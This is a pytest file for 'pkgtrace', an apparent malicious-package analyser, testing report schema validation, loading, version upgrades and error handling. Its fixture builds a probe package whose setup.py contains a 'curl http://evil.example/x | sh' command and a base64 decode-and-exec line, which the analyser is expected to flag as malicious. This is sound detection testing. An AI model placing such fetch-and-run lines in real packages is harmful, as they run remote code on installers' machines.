"""Reports as a user gets them (`pkgtrace analyze --json`) validate against the published schema
and load through api.read_report; older and hostile stored reports get a clear answer."""

from __future__ import annotations

import json
from pathlib import Path

import jsonschema
import pytest

from builders import setup_py_package
from clirun import run_cli
from pkgtrace.api import REPORT_SCHEMA, ReportError, read_report, upgrade_report
from pkgtrace.api.dynamic import DynamicSection

ROOT = Path(__file__).resolve().parents[2]
SCHEMA = json.loads((ROOT / "schemas" / "pkgtrace-report-1.schema.json").read_text())
DYNAMIC_FIXTURE = ROOT / "tests" / "fixtures" / "verdict" / "dynamic-pypi-behaviour.json"


@pytest.fixture(scope="module")
def analysed(tmp_path_factory) -> dict:
    work = tmp_path_factory.mktemp("analysed")
    sdist = setup_py_package(work, "schema-probe", 'import os\nos.system("curl http://evil.example/x | sh")\n',
                             'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n')
    proc = run_cli("analyze", "pypi", "--local", str(sdist), "--mode", "static", "--json", check=False)
    assert proc.returncode in (0, 1), proc.stderr[-2000:]
    return json.loads(proc.stdout)["report"]


def test_a_real_report_validates_against_the_published_schema(analysed):
    jsonschema.Draft202012Validator(SCHEMA).validate(analysed)
    assert analysed["schema_version"] == REPORT_SCHEMA


def test_a_stored_report_loads_into_the_model(analysed, tmp_path):
    path = tmp_path / "report.json"
    path.write_text(json.dumps(analysed))
    report = read_report(path)
    assert report.package.name == "schema-probe"
    assert report.verdict is not None and report.verdict.label == "malicious"
    assert {f.rule for f in report.verdict.findings} >= {"STATIC-PY-DECODE-EXEC"}
    assert report.static is not None and report.static.extraction.status == "ok"
    assert report.as_dict()["verdict"]["findings"][0]["rule"] == analysed["verdict"]["findings"][0]["rule"]


def test_a_report_read_and_written_again_is_the_same_document(analysed):
    # analyze builds the model and stores what its producers set: a static-only run has no
    # dynamic part, and nothing a reader adds (defaults, nulls) changes a stored report.
    assert "dynamic" not in analysed
    assert upgrade_report(analysed).as_dict() == analysed
    partial = {k: v for k, v in analysed.items() if k not in ("static", "verdict", "diff")}
    assert upgrade_report(partial).as_dict() == partial


def test_the_schema_rejects_what_the_model_rejects(analysed):
    # A closed part with a field nobody declared is a schema change, not something to pass along.
    bad = json.loads(json.dumps(analysed))
    bad["verdict"]["label"] = "harmless"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft202012Validator(SCHEMA).validate(bad)
    with pytest.raises(ReportError, match="verdict.label"):
        upgrade_report(bad)
    bad = json.loads(json.dumps(analysed))
    bad["verdict"]["sneaked"] = True
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft202012Validator(SCHEMA).validate(bad)


def test_a_version_0_report_is_upgraded(analysed):
    old = {k: v for k, v in analysed.items() if k not in ("schema_version", "created", "timings")}
    old["artifact"] = {k: v for k, v in old["artifact"].items() if k != "local"}
    report = upgrade_report(old)
    assert report.schema_version == REPORT_SCHEMA
    assert report.created == 0 and report.artifact.local is True
    jsonschema.Draft202012Validator(SCHEMA).validate(report.as_dict())


def test_a_real_sandbox_runs_dynamic_section_loads_and_keeps_extra_observations():
    section = json.loads(DYNAMIC_FIXTURE.read_text())["report"]["dynamic"]
    section["phases"]["install"]["network"][0]["proxy_decision"] = "denied"  # a field added later
    dyn = DynamicSection.model_validate(section)
    assert dyn.phases["install"].network[0].model_extra["proxy_decision"] == "denied"
    hosts = {e.hostname for p in dyn.phases.values() for e in p.dns}
    assert "evil.example" in hosts


@pytest.mark.parametrize("content, message", [
    (b"[1, 2]", "JSON object"),
    (b"{not json", "not JSON"),
    (b'{"schema_version": "pkgtrace-report/99"}', "unknown report schema version"),
    (b'{"schema_version": "pkgtrace-report/1", "package": {}}', "not a valid"),
])
def test_bad_stored_reports_get_a_clear_error(tmp_path, content, message):
    path = tmp_path / "report.json"
    path.write_bytes(content)
    with pytest.raises(ReportError, match=message):
        read_report(path)


def test_an_oversized_file_is_refused_without_reading_it_all(tmp_path):
    path = tmp_path / "report.json"
    path.write_bytes(b" " * 2048 + b"{}")
    with pytest.raises(ReportError, match="larger than 1024 bytes"):
        read_report(path, max_bytes=1024)
    with pytest.raises(ReportError, match="No such file"):
        read_report(tmp_path / "missing.json")
